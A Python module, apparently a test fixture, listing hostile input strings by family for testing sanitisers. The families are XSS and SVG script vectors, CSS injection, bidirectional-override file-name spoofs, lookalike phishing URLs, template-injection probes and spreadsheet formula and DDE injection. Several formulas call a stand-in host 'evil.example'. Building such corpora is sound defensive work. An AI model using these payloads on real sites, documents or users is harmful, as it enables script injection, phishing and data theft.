"""What a stranger may put into a name, a subject, a body or a file name, by family; each calls ``alert`` or a foreign host if it runs."""

from itertools import product

RUN = "alert(1)"
AWAY = "https://evil.example"

SCRIPT = [
    f"<script>{RUN}</script>", f"<SCRIPT SRC={AWAY}/x.js></SCRIPT>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>", f"</style><script>{RUN}</script>", f"</script><script>{RUN}</script>", f"--><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>", f"<img src={AWAY}/pixel.png>", f"<body onload={RUN}>", f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>", f"<a href=javascript:{RUN}>click</a>", f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<form action={AWAY}><button>go</button></form>", f"<input autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>", f"<video><source onerror={RUN}>",
    f"<audio src=x onerror={RUN}>", f"<object data=javascript:{RUN}>", f"<embed src={AWAY}/x.swf>", f"<marquee onstart={RUN}>", f"<base href={AWAY}/>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>", f"<link rel=stylesheet href={AWAY}/x.css>", f"<select autofocus onfocus={RUN}>",
    f"<isindex type=image src=1 onerror={RUN}>", f"<keygen autofocus onfocus={RUN}>", f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<math><mtext><script>{RUN}</script></mtext></math>", f"<x onclick={RUN}>click here</x>",
    f"\" onmouseover=\"{RUN}", f"' onfocus='{RUN}' autofocus='", f"`onload={RUN}", f"javascript:{RUN}", f"<<script>{RUN};//<</script>", f"<img/src=`x`onerror={RUN}>",
    f"<p style=animation-name:x onanimationstart={RUN}>", f"<button popovertarget=x onbeforetoggle={RUN}>p</button><div popover id=x>", f"<div hx-get={AWAY} hx-trigger=load>",
    f"<div data-hx-on:load={RUN}>", f"<div hx-on::load={RUN}>", f"<div hx-vals='js:{{x:{RUN}}}' hx-trigger=load hx-post=/desk/>",
]  # fmt: skip
SVG = [
    f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><set onbegin={RUN} attributename=x>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>", f"<svg><use href=data:image/svg+xml,{RUN}#x /></svg>", f"<svg><image href={AWAY}/x.png></svg>",
    f"<svg><foreignObject><iframe src=javascript:{RUN}></iframe></foreignObject></svg>", f"<svg><style>@import '{AWAY}/x.css';</style></svg>",
    f"<svg><title><img src=x onerror={RUN}></title></svg>", f"<svg><desc></svg><img src=x onerror={RUN}>", f"<svg/onload={RUN}//", f"<svg><handler type='text/javascript'>{RUN}</handler>",
]  # fmt: skip
CSS = [
    f"<style>*{{background:url({AWAY})}}</style>", f"<div style=background:url({AWAY})>x</div>", "<div style='position:fixed;inset:0;background:red;z-index:99999'>GONE</div>",
    f"<style>@import url({AWAY}/x.css);</style>", "<style>body{display:none}</style>", "<p style=font-size:900px>BIG</p>", "</p></div></main></body></html>", "<div style=width:9000px>wide</div>",
    f"<div style=\"width:expression({RUN})\">", f"<style>@font-face{{font-family:x;src:url({AWAY})}}</style>", "<table><tr><td>", "<!--", "<plaintext>", "<textarea>", "<title>",
]  # fmt: skip
DIRECTION = [
    f"{mark}{word}" for mark, word in product("\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c", ("invoice fdp.exe", "approve \u202emoc.live"))
]  # fmt: skip
LOOKALIKES = [
    "https://аpple.example/login", "https://xn--pple-43d.example/", "https://bank.example@evil.example/", "https://bank.example.evil.example/", "https://bаnk.example",
    "http://evil.example/?q=https://bank.example", "https://keyhaven\u2024example/", "https://bank。example/", "//evil.example", "https:\\\\evil.example", "https://ｂank.example",
    "mailto:boss@bank.example?bcc=evil@evil.example", "https://bank.example\u200b.evil.example", "https://[::ffff:127.0.0.1]/admin/", "file:///etc/passwd", "https://раураl.example",
]  # fmt: skip
TEMPLATE = [
    "{{ 7*7 }}", "{% load log %}", "{{ request.user.password }}", "{% csrf_token %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "{{''.__class__}}",
    "{% include '/etc/passwd' %}", "%(password)s", "{0.__class__}", "%s%s%s%n", "{% debug %}", "[[7*7]]",
]  # fmt: skip
FORMULA = [
    "=1+1", "=HYPERLINK(\"https://evil.example\",\"x\")", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
    "=IMPORTXML(\"https://evil.example\",\"//a\")", "=WEBSERVICE(\"https://evil.example\")", "-2+3+cmd|' /C calc'!A0", "\"=1+1", "\n=1+1", "=DDE(\"cmd\",\"/C calc\",\"x\")", "@=1+1",
]  # fmt: skip
AWKWARD = [
    "W" * 190, "\u0301" * 60 + "o", "a\u0300\u0301\u0302\u0303\u0304" * 30, "👩‍👩‍👧‍👦" * 25, "\u2028line\u2029separators", "null\ufffdbyte", "ﷺ" * 30, "\ufeffBOM", "\ud7ff", "‮‮‮‮",
    "https://" + "long" * 40 + ".example", "𒐫" * 25, "\u200b".join("invisible"), "\xa0" * 60 + "spaces", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E",
]  # fmt: skip

FAMILIES = {
    "script": SCRIPT, "svg": SVG, "css": CSS, "direction": DIRECTION, "lookalike links": LOOKALIKES, "template": TEMPLATE, "formula": FORMULA, "awkward": AWKWARD,
}  # fmt: skip
ALL = [payload for family in FAMILIES.values() for payload in family]
CONTROLS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
